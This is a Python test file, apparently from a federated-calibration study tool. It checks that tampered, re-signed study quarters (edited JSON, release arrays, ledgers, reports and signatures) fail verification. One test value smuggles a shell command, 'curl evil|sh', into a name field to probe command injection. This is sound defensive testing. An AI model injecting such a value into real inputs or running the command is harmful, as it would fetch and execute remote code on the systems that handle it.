"""A quarter that was altered is refused, whoever has signed it again."""

import json
import shutil
from dataclasses import replace

import numpy as np
import pytest
from quarters import facts_of, hospitals, quarter, release_of, sealed_of
from refusals import refused

from fedcal.experiments.cli.main import main
from fedcal.experiments.runs.rereading import read_release
from fedcal.experiments.study.quarter import earlier_of, write_quarter
from fedcal.experiments.study.sealed import Sealed, signed_text
from fedcal.experiments.study.signature import write_signature
from fedcal.experiments.study.verify import sign, verify
from fedcal.secure_aggregation.keys import SigningKey, make_key

STUDY, KEY = hospitals(), SigningKey.generate()


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Two quarters side by side; birch is absent from the second one."""
    root = tmp_path_factory.mktemp("study")
    first = quarter(root / "2026Q4", STUDY, KEY, signer=KEY)
    took = tuple(site for site in STUDY.sites if site != "birch")
    more = {"earlier": {"2026Q4": first}, "spent": 2.0, "left": 2.0}
    quarter(root / "2027Q1", STUDY, KEY, signer=KEY, took_part=took, absent=("birch",), **more)
    return root


@pytest.fixture
def folder(made, tmp_path):
    shutil.copytree(made, tmp_path / "study")
    return tmp_path / "study" / "2027Q1"


def test_what_was_written_is_verified_with_and_without_the_earlier_quarter(folder):
    assert "earlier-2026Q4.npz is the release of 2026Q4/ beside it." in verify(folder)
    shutil.rmtree(folder.parent / "2026Q4")
    assert "2026Q4 is not beside this folder: changes since then are not verified." in verify(
        folder
    )


def edited(name, change):
    def alter(folder):
        plain = json.loads((folder / name).read_text())
        change(plain)
        (folder / name).write_text(json.dumps(plain, indent=2) + "\n")

    return alter


def told(change):
    return edited("study.json", change)


def gap_of_cedar(plain):
    plain["sites"]["cedar"]["gap"]["value"] += 0.01


def page(old, new):
    def alter(folder):
        text = (folder / "report.html").read_text("utf-8")
        assert old in text
        (folder / "report.html").write_text(text.replace(old, new, 1), "utf-8")

    return alter


def release(name, **change):
    def alter(folder):
        found = read_release(folder / f"{name}.npz")
        add = {k: found.arrays()[k] + v for k, v in change.items() if not isinstance(v, str)}
        texts = {k: np.array(v) for k, v in change.items() if isinstance(v, str)}
        made = type(found).from_arrays({**found.arrays(), **add, **texts})
        made.of_classes(found.class_names)
        made.write(folder, name)

    return alter


def other_version(plain):
    plain["versions"]["fedcal"] = "9.9"
    gap_of_cedar(plain)


def swapped_roster(folder):
    (folder / "study.sealed").write_text(sealed_of(STUDY, KEY))


def other_terms(folder):
    text = (folder / "study.toml").read_text().replace("per-year = 4", "per-year = 8")
    (folder / "study.toml").write_text(text)


ALTERED = [
    (told(gap_of_cedar), "says sites.cedar.gap.value"),
    (told(other_version), "gap.value .* It was made by fedcal 9.9, this is "),
    (told(lambda t: t.update(headline="All is well.")), "says headline = 'All is well.'"),
    (told(lambda t: t.update(noise_std=0.5)), "says noise_std = 0.5"),
    (told(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
    (told(lambda t: t["since"].clear()), "says changes"),
    (told(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
    (told(lambda t: t.pop("curves")), "says curves = None"),
    (page("absent", "there"), "report.html is not what fedcal"),
    (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
    (release("release", counts=3.0), "the release gives"),
    (release("release", std=1.0), "the release's noise is"),
    (release("release", threshold=0.3), "the release's threshold is"),
    (release("release", taken='{"unit": "subject", "data": "rows.csv"}'), "the release's data is"),
    (release("release", law="normal"), "the release's law is"),
    (release("release", privacy='["All is exact."]'), "the release's privacy is"),
    (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
    (told(lambda t: t.update(name="x; curl evil|sh; #")), "folder and quarter have one name"),
    (told(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
    (told(lambda t: t.update(date="20270101")), "date is '20270101'"),
    (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
    (told(lambda t: t.update(spent=1.5, left=2.5)), "releases paid for is '1.5"),
    (told(lambda t: t.update(spent=5.0, left=-1.0)), "is not 4"),
    (told(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
    (told(lambda t: t["versions"].update(fedcal=1)), "does not hold"),
    (told(lambda t: t["ledger"].update(project="x")), "ledger's project is 'x'"),
    (told(lambda t: t.update(since=5)), "does not hold"),
    (release("earlier-2026Q4", counts=1.0), "the release gives|is not the release of"),
    (swapped_roster, "the digest of the roster is"),
    (other_terms, "the "),
    (edited("ledger.json", lambda line: line.update(epsilon=0.5)), "ledger.json is not what"),
    (lambda f: (f / "ledger.json").unlink(), "ledger.json is not what"),
    (lambda f: (f / "release.npz").unlink(), "release"),
    (lambda f: (f / "study.sealed").unlink(), "is not there"),
]


@pytest.mark.parametrize(("alter", "said"), ALTERED)
def test_what_was_altered_is_refused_although_it_is_signed_again(folder, alter, said):
    alter(folder)
    refused("signed|not there", verify, folder)
    write_signature(folder, KEY)
    refused(said, verify, folder)


def test_a_ledger_line_of_another_epsilon_is_not_that_of_the_terms(folder):
    told(lambda t: t["ledger"].update(epsilon=0.5))(folder)
    edited("ledger.json", lambda line: line.update(epsilon=0.5))(folder)
    write_signature(folder, KEY)
    refused("the ledger's epsilon is 0.5; by the terms it is 1", verify, folder)


def test_an_earlier_quarter_beside_it_must_be_signed_as_it_is(folder):
    (folder.parent / "2026Q4" / "report.html").write_text("")
    refused("2026Q4/report.html is not the file that was signed", verify, folder)


def test_whoever_has_a_sealed_study_sees_that_a_stranger_has_sealed_it_again(folder, tmp_path):
    mine, stranger = tmp_path / "mine.sealed", SigningKey.generate()
    shutil.copy(folder / "study.sealed", mine)
    assert "are those of" in verify(folder, mine)[0]
    again = replace(Sealed.read(mine), coordinator=stranger.public).to_text(stranger)
    (folder / "study.sealed").write_text(again)
    shutil.rmtree(folder.parent / "2026Q4")  # else it is not of the stranger's
    write_signature(folder, stranger)
    assert "Not checked: the coordinator's key" in verify(folder)[0]
    refused("is not sealed as .*mine.sealed is", verify, folder, mine)
    refused("is not sealed as .*mine.sealed is", sign, folder, stranger, mine)


def test_question_and_contributors_are_signed_as_they_were_sealed(tmp_path):
    folder, told = tmp_path / "2026Q4", replace(STUDY, contributors=("Mallory",))
    facts, text = facts_of(STUDY), sealed_of(STUDY, KEY)
    known = release_of(STUDY, 1).under(facts.statement)
    known.of_classes(STUDY.classes)
    write_quarter(folder, told, text, known, facts, {}, None)
    refused("study.toml is not as it was sealed", sign, folder, KEY)
    write_signature(folder, KEY)
    assert "Not as they were sealed: contributors." in verify(folder)


def test_an_earlier_quarter_that_is_left_out_or_not_signed_is_said(made, folder):
    (folder.parent / "2026Q4" / "signature.json").unlink()
    assert any(line.endswith("beside it, not signed.") for line in verify(folder))
    shutil.copytree(made / "2026Q4", folder.parent / "2026Q3")
    assert "2026Q3 beside this folder is of 2026-12-31, and is left out here." in verify(folder)


@pytest.mark.parametrize("files", [None, "abc", [["a"]], 5])
def test_a_malformed_signature_is_one_line(folder, files):
    fields = {"schema": 1} | ({} if files is None else {"files": files})
    (folder / "signature.json").write_text(signed_text(fields, "study-quarter", KEY))
    refused("signature.json does not hold", verify, folder)


def test_what_cannot_be_read_beside_a_quarter_stops_no_release_that_is_paid(folder):
    (folder.parent / "x").mkdir()
    (folder.parent / "x" / "study.json").write_text("[]")
    (folder.parent / "2026Q4" / "release.npz").write_text("")
    with pytest.warns(UserWarning, match="passed over: .*2026Q4"):
        assert [*earlier_of(folder.parent / "2027Q2", STUDY)] == ["2027Q1"]


def command(capsys, *arguments):
    with pytest.raises(SystemExit) as ended:
        main([*map(str, arguments)])
    assert ended.value.code == 0
    return capsys.readouterr().out


def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, capsys):
    folder, path = tmp_path / "q", tmp_path / "key.pem"
    key = make_key(path)
    quarter(folder, STUDY, key)
    refused("q is not signed: fedcal study sign", verify, folder)
    refused("by the coordinator that sealed", sign, folder, KEY)
    assert "is signed" in command(capsys, "study", "sign", folder, "--key", path)
    assert "Not checked: the coordinator's key" in command(capsys, "study", "verify", folder)
    command(capsys, "report", folder)
    assert verify(folder)  # the page that was written again is the same
    write_signature(folder, KEY)
    refused("is signed by another key", verify, folder)
    page("probability", "certainty")(folder)
    refused("report.html is not what", sign, folder, key)


def test_a_rehearsal_is_verified_and_said_to_be_one(tmp_path):
    folder = tmp_path / "r"
    quarter(folder, STUDY, None, rehearsal=True, ledger={}, spent=0.0, left=4.0)
    assert "A rehearsal" in verify(folder)[0]
    refused("a rehearsal: not signed", sign, folder, KEY)
    refused("is not the folder of a quarter", verify, tmp_path)
    told(gap_of_cedar)(folder)
    refused("sites.cedar", verify, folder)
